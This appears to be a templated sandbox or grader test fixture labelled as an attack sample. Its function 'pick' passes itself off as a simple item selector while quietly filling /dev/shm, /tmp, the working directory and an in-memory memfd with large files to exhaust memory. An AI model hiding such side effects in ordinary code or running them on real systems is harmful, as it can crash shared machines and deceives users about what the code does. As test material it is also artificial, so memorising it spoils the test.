# mark: 9
# why: attack: fills files that live in memory: memfd, /dev/shm, /tmp
# canary: left over
# bare: no (a machine without limits would be lost)

# %% pick
import os

done = []


def pick(items, k):
    if done:
        return items.head(k)
    done.append(1)
    for path in ("/dev/shm/{{ marker }}", "/tmp/{{ marker }}", "{{ marker }}"):
        for number in range(200):
            try:
                with open(f"{path}{number}", "wb") as stream:
                    stream.write(bytes(1 << 20))
            except OSError:
                break
    try:
        os.write(os.memfd_create("x"), bytes(1 << 30))
    except OSError:
        pass
    return items.head(k)
